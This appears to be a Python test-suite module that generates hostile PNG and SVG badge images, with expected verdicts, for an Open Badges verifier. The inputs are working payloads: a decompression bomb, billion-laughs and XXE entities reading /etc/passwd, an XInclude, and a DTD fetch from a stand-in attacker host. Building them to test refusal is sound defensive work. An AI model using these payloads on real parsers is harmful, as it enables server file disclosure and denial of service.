"""Cases about pictures that carry badges (security rules, section 6, cases 17 and 18)."""

import zlib

from hostile.case import Case, Cases, written
from hostile.packing import chunk, in_svg, png, stored, svg, text_chunk
from hostile.parties import (
    plain,
    signed,
    site,
    university_site,
    university_token,
)

PNG = "Security rules, section 6, case 17"
SVG = "Security rules, section 6, case 18"
BAKING = "Open Badges 3.0, section 5.3 (baking)"


def cases() -> Cases:
    """Give pictures that are bombs, two files at once, or hold more than one badge."""
    yield from _pngs()
    yield from _svgs()


def _pngs() -> Cases:
    badge, other = written(signed(plain())), written({**signed(plain()), "name": "Master of sources"})
    good = text_chunk(badge)
    legacy = chunk(b"tEXt", b"openbadges\0https://academy.example.org/assertions/1")
    packed = stored(badge)
    bomb = zlib.compress(bytes(200 * 1024 * 1024), 9)
    broken = bytearray(png(good))
    broken[120] ^= 1
    header = chunk(b"IHDR", (20_000).to_bytes(4, "big") * 2 + b"\x08\0\0\0\0")
    huge = b"\x89PNG\r\n\x1a\n" + header + good + chunk(b"IDAT", stored(b"\0\x7f")) + chunk(b"IEND", b"")
    refused: list[tuple[str, str, bytes, str]] = [
        ("cut-off", "The end is missing", png(good)[:-6], "no_badge.broken_image"),
        ("bit-turned", "A bit of the badge is turned on the way", bytes(broken), "no_badge.broken_image"),
        ("lying-length", "A chunk that claims to be as long as the world",
         png()[:33] + b"\xff\xff\xff\xffiTXt" + png()[33:], "no_badge.broken_image"),
        ("behind-the-end", "A second file behind the end", png(good, behind=badge), "no_badge.broken_image"),
        ("archive-behind", "An archive behind the end", png(good, behind=b"PK\x03\x04" + bytes(26)),
         "no_badge.broken_image"),
        ("empty", "A picture without a badge", png(), "no_badge.nothing_inside"),
        ("no-picture", "No picture around the badge", b"\x89PNG\r\n\x1a\n" + good + chunk(b"IEND", b""),
         "no_badge.broken_image"),
        ("other-method", "Compressed in a way that does not exist",
         png(chunk(b"iTXt", b"openbadgecredential\0\1\7\0\0" + packed)), "no_badge.broken_image"),
        ("compressed-cut-off", "The compressed text is cut off", png(text_chunk(packed[:-6], compressed=True)),
         "no_badge.broken_image"),
        ("bomb", "A text of 200 MiB in 0.2 MB", png(text_chunk(bomb, compressed=True)), "no_badge.broken_image"),
    ]  # fmt: skip
    for folder, title, data, code in refused:
        yield Case(f"png-{folder}", title, (PNG, BAKING), data, "refused", {"refused": code}, site(),
                   large=len(data) > 60_000)  # fmt: skip
    doubled: list[tuple[str, str, bytes]] = [
        ("two-badges", "Two badges in one picture", png(good, text_chunk(other))),
        ("twice-the-same", "The same badge twice", png(good, good)),
        ("compressed-second", "A second badge, compressed", png(good, text_chunk(stored(other), compressed=True))),
        ("older-second", "A badge of the older sort beside it", png(good, legacy)),
        ("plain-text-second", "A second one where it should not stand", png(
            good, chunk(b"tEXt", b"openbadgecredential\0" + other))),
    ]  # fmt: skip
    for folder, title, data in doubled:
        yield Case(f"png-{folder}", title, (PNG, BAKING), data, "invalid",
                   {"document": "document.several_credentials"}, site())  # fmt: skip
    for folder, title, inside, code in (
        ("inside-is-text", "The chunk holds a letter", b"Dear committee", "document.not_json"),
        ("picture-in-picture", "The chunk holds a picture", png(good), "document.bad_text"),
    ):
        yield Case(f"png-{folder}", title, (PNG, BAKING), png(text_chunk(inside)), "invalid", {"document": code},
                   site())  # fmt: skip
    yield Case("png-altered", "The badge in the picture is altered", (PNG,), png(text_chunk(other)), "invalid",
               {"proof": "proof.signature"}, site())  # fmt: skip
    for folder, title, data, documents in (
        ("json", "A badge in a picture", png(good), site()),
        ("compressed", "A compressed badge in a picture", png(text_chunk(packed, compressed=True)), site()),
        ("token", "A token in a picture", png(text_chunk(university_token())), university_site()),
        ("huge", "A picture that nobody should unpack, and nobody needs to", huge, site()),
        ("animated", "A moving picture", png(chunk(b"acTL", bytes(8)), good), site()),
    ):
        yield Case(f"png-{folder}", title, (PNG, BAKING), data, "valid", {"proof": "proof.valid"}, documents)


def _svgs() -> Cases:
    badge = written(signed(plain()))
    other = written({**signed(plain()), "name": "Master of sources"})
    good = in_svg(badge)
    laughs = b"".join(
        b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10 if level else b"ha") for level in range(10)
    )
    refused: list[tuple[str, str, bytes, str]] = [
        ("laughs", "Ten lines that become a thousand million words",
         svg(b"<openbadges:credential>&l9;</openbadges:credential>", before=b"<!DOCTYPE svg [" + laughs + b"]>"),
         "no_badge.broken_image"),
        ("external-entity", "A file of the server is to be read", svg(
            b"<openbadges:credential>&x;</openbadges:credential>",
            before=b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "no_badge.broken_image"),
        ("parameter-entity", "A definition is to be fetched", svg(
            good, before=b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://mallory.example.org/x.dtd"> %x;]>'),
         "no_badge.broken_image"),
        ("internal-subset", "Definitions of its own", svg(good, before=b"<!DOCTYPE svg [<!ELEMENT svg ANY>]>"),
         "no_badge.broken_image"),
        ("other-encoding", "Entities in another encoding", svg(
            good, before=b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE svg [<!ENTITY x "y">]+AD4-'),
         "no_badge.broken_image"),
        ("utf-16", "A drawing in UTF-16", svg(good).decode().encode("utf-16"), "no_badge.form"),
        ("cut-off", "The end is missing", svg(good)[:-4], "no_badge.broken_image"),
        ("two-roots", "A second drawing behind the first", svg(good) + svg(in_svg(other)), "no_badge.broken_image"),
        ("empty", "A drawing without a badge", svg(b"<circle/>"), "no_badge.nothing_inside"),
        ("other-root", "Another document than a drawing", b"<html>" + good + b"</html>", "no_badge.broken_image"),
        ("page", "A web page", b"<!doctype html><title>A badge</title>", "no_badge.broken_image"),
        ("other-namespace", "The element of another namespace", svg(
            good, namespace=b"https://mallory.example.org/ob/v3p0"), "no_badge.nothing_inside"),
        ("elements-inside", "Elements between the words of the badge", svg(
            b"<openbadges:credential>" + badge[:50] + b"<b/>" + badge[50:] + b"</openbadges:credential>"),
         "no_badge.broken_image"),
        ("include", "Another document is to be included", svg(
            b'<openbadges:credential><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'
            b"</openbadges:credential>"), "no_badge.broken_image"),
        ("deep", "Elements in elements, without end", svg(b"<g>" * 3_000 + good + b"</g>" * 3_000),
         "no_badge.broken_image"),
    ]  # fmt: skip
    for folder, title, data, code in refused:
        yield Case(f"svg-{folder}", title, (SVG, BAKING), data, "refused", {"refused": code}, site())
    for folder, title, data in (
        ("two-badges", "Two badges in one drawing", svg(good + in_svg(other))),
        ("nested-drawing", "A second badge in a drawing inside", svg(good + svg(in_svg(other)))),
        ("attribute-and-text", "One badge in the attribute, another as text", svg(
            b'<openbadges:credential verify="' + university_token() + b'"><![CDATA[' + badge
            + b"]]></openbadges:credential>")),
        ("older-beside", "A badge of the older sort beside it", svg(
            good + b'<a:assertion xmlns:a="http://openbadges.org" verify="https://academy.example.org/a"/>')),
    ):  # fmt: skip
        yield Case(f"svg-{folder}", title, (SVG, BAKING), data, "invalid",
                   {"document": "document.several_credentials"}, site())  # fmt: skip
    yield Case("svg-altered", "The badge in the drawing is altered", (SVG,), svg(in_svg(other)), "invalid",
               {"proof": "proof.signature"}, site())  # fmt: skip
    doctype = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    for folder, title, data, documents in (
        ("json", "A badge in a drawing", svg(good), site()),
        ("token", "A token in a drawing", svg(in_svg(university_token())), university_site()),
        ("doctype", "A drawing that names a definition, which nobody loads", svg(good, before=doctype), site()),
        ("script", "A drawing with a script, which nobody runs", svg(b"<script>alert(1)</script>" + good), site()),
    ):
        yield Case(f"svg-{folder}", title, (SVG, BAKING), data, "valid", {"proof": "proof.valid"}, documents)
